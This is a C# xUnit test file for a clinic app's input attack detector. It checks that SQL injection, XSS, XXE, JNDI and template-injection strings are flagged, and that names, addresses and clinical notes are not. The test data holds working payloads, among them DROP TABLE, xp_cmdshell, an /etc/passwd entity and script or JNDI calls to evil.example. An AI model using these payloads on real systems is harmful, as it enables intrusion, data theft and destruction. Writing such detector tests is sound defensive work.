using ClinicBlazor.Domain.Input;

namespace ClinicBlazor.Tests.Input;

/// <summary>What counts as an attack, and what people write that does not.</summary>
[Trait("Requirement", "S4-08")]
public sealed class AttackSignsTests
{
    [Theory]
    [InlineData("' OR 1=1--")]
    [InlineData("' or '1'='1")]
    [InlineData("\" or \"\"=\"")]
    [InlineData("') OR ('a'='a")]
    [InlineData("admin'--")]
    [InlineData("admin' #")]
    [InlineData("1 OR 1=1")]
    [InlineData("5 AND 1=2 --")]
    [InlineData("x' AND email IS NULL; --")]
    [InlineData("'; DROP TABLE Patients;--")]
    [InlineData("Robert'); DROP TABLE Students;--")]
    [InlineData("1; DELETE FROM Accounts WHERE 1=1")]
    [InlineData("1'; UPDATE Accounts SET Roles=16--")]
    [InlineData("a'; INSERT INTO Accounts VALUES (1)--")]
    [InlineData("' UNION SELECT NULL,NULL--")]
    [InlineData("-1 union all select 1,2,3")]
    [InlineData("' UNION/**/SELECT/**/password FROM users--")]
    [InlineData("1' ORDER BY 10-- -")]
    [InlineData("1) AND SLEEP(5)")]
    [InlineData("1;SELECT pg_sleep(5)--")]
    [InlineData("1 WAITFOR DELAY '0:0:5'--")]
    [InlineData("1'; WAITFOR DELAY '0:0:5'--")]
    [InlineData("1 AND (SELECT COUNT(*) FROM sqlite_master) > 0")]
    [InlineData("1 AND randomblob(500000000)")]
    [InlineData("1 and 0 in (select name,x from sqlite_master where 1)")]
    [InlineData("0 or exists(select 1 from users,information_schema.tables--")]
    [InlineData("'||(SELECT password FROM users)||'")]
    [InlineData("1 AND extractvalue(1,concat(0x7e,version()))")]
    [InlineData("exec'; EXEC xp_cmdshell('dir')")]
    [InlineData("' AND 4523=4523 AND 'qWer'='qWer")]
    [InlineData("') AND 9999=CAST((CHR(113)||CHR(118)) AS NUMERIC)-- ab")]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<ScRiPt src=//evil.example/x.js>")]
    [InlineData("\"><script>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<svg/onload=alert(1)>")]
    [InlineData("<svg onload='x'>")]
    [InlineData("<body onload=alert(1)>")]
    [InlineData("<a href=\"javascript:alert(1)\">x</a>")]
    [InlineData("<iframe srcdoc=\"x\">")]
    [InlineData("\" onmouseover=\"alert(1)")]
    [InlineData("' onfocus=alert(1) autofocus='")]
    [InlineData("javascript:alert(document.cookie)")]
    [InlineData("data:text/html,<b>x")]
    [InlineData("＜script＞alert(1)＜/script＞")]
    [InlineData("<details open ontoggle=alert(1)>")]
    [InlineData("<?php system('id'); ?>")]
    [InlineData("<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>")]
    [InlineData("${jndi:ldap://evil.example/a}")]
    [InlineData("{{7*7}}")]
    [InlineData("${7*7}")]
    public void In_AnAttack_IsSeen(string text) => Assert.True(AttackSigns.In(text));

    [Theory]
    [InlineData("O'Brien")]
    [InlineData("D'Angelo-O'Neil")]
    [InlineData("Null")]
    [InlineData("Select")]
    [InlineData("Drop")]
    [InlineData("Robert'")]
    [InlineData("Delete Update")]
    [InlineData("Union")]
    [InlineData("Anna-Maria von und zu Ω'")]
    [InlineData("María José Ñandú")]
    [InlineData("李小龍")]
    [InlineData("Orr, Andy")]
    [InlineData("Scriptor")]
    [InlineData("o'neil+clinic@example.com")]
    [InlineData("select.from@union.example")]
    [InlineData("jane.or.john@example.org")]
    [InlineData("12 Union Street, Apt. #4")]
    [InlineData("12 Union Select St.")]
    [InlineData("5 O'Connell St; 2nd floor -- ring twice")]
    [InlineData("Flat 3/2, 10 King's Road (rear)")]
    [InlineData("1 or 2 Main St")]
    [InlineData("c/o Dr. D'Souza, \"The Elms\", Rd. 7 = Ring 7")]
    [InlineData("(555) 010-0142")]
    [InlineData("900-12-3456")]
    [InlineData("J45.909")]
    [InlineData("1968-07-02")]
    public void In_ANameAnAddressOrACode_IsNoAttack(string text) => Assert.False(AttackSigns.In(text));

    [Theory]
    [InlineData("Temperature < 38, heart rate > 100, sats <92% on air; BP 120/80.")]
    [InlineData("Please SELECT one medication and DROP the other.")]
    [InlineData("Foot drop; table tennis since 2019.")]
    [InlineData("Pain 3 or 4 = moderate, 7 and 8 = severe.")]
    [InlineData("Patient says 'it hurts' and 'it burns' -- worse at night.")]
    [InlineData("The patients' #1 complaint is tiredness.")]
    [InlineData("Trouble with sleep (8 hours in bed, 3 asleep).")]
    [InlineData("Onset = 3 days ago; on load bearing: pain.")]
    [InlineData("Alert(oriented x3), GCS 15 = 15.")]
    [InlineData("Update from the union meeting: select from the menu (soft diet).")]
    [InlineData("Symptoms stopped; delete from list of problems, insert into chart later.")]
    [InlineData("He's on a script: ibuprofen 400 mg; and/or paracetamol.")]
    [InlineData("I work with JavaScript: long hours, sore eyes.")]
    [InlineData("pH 7.30 <base excess -5>, HCO3 <20")]
    [InlineData("If weight<body norm or BMI>30 then refer; else review in 2/52.")]
    [InlineData("Rash on arms & legs; \"burning\" or \"itching\" = both.")]
    [InlineData("K+ 5.1, Na+ 139 -- repeat U&E; see letter of 1/3.")]
    [InlineData("Took 1=1 tablets as told, 2 of 3 doses")]
    [InlineData("Fell while having a drink; table broke his fall.")]
    [InlineData("Dose: 5 mg/kg; max. 1;5 h apart? 'as needed'; then stop")]
    [InlineData("Document location of pain, window open, cookie allergy.")]
    [InlineData("Le duele la cabeza desde ayer; «peor» por la noche, 38,5 ºC.")]
    public void In_AClinicalSentence_IsNoAttack(string text) => Assert.False(AttackSigns.In(text));

    [Fact]
    public void In_WordsOfSignsWithoutAnyOtherCharacter_SaysWhatTheExpressionsSay()
    {
        string[] words =
        [
            "union", "select", "null", "from", "join", "sqlite_master", "sysobjects", "dual", "where", "limit", "or", "and", "1", "drop",
                "table", "exec", "shutdown",
            "script", "onload", "javascript", "document", "cookie", "case", "when", "sleep", "jndi",
        ];
        string[] joints = ["", "/", "-", "--", "_"];
        var texts = from joint in joints from one in words from other in words select $"{one}{joint}{other}";

        // A blank in front changes no sign, and sends the text through the expressions.
        Assert.All(texts.Concat(words), text => Assert.Equal(AttackSigns.In(" " + text), AttackSigns.In(text)));
    }

    [Fact]
    public void In_TheLongestText_TakesAMoment()
    {
        var text = string.Concat(Enumerable.Repeat("' or (select <a ' \" x=", 2_000));
        AttackSigns.In("warm up");

        // The best of several: what interrupts the machine is no part of it.
        var best = Enumerable.Range(0, 5).Min(_ =>
        {
            var started = TimeProvider.System.GetTimestamp();
            AttackSigns.In(text);
            return TimeProvider.System.GetElapsedTime(started);
        });

        Assert.InRange(best, TimeSpan.Zero, TimeSpan.FromSeconds(1));
    }

    [Theory]
    [InlineData(null)]
    [InlineData("")]
    [InlineData("\ud800")]
    [InlineData("\0\u0001")]
    public void In_NothingOrHalfASign_IsNoAttack(string? text) => Assert.False(AttackSigns.In(text));
}
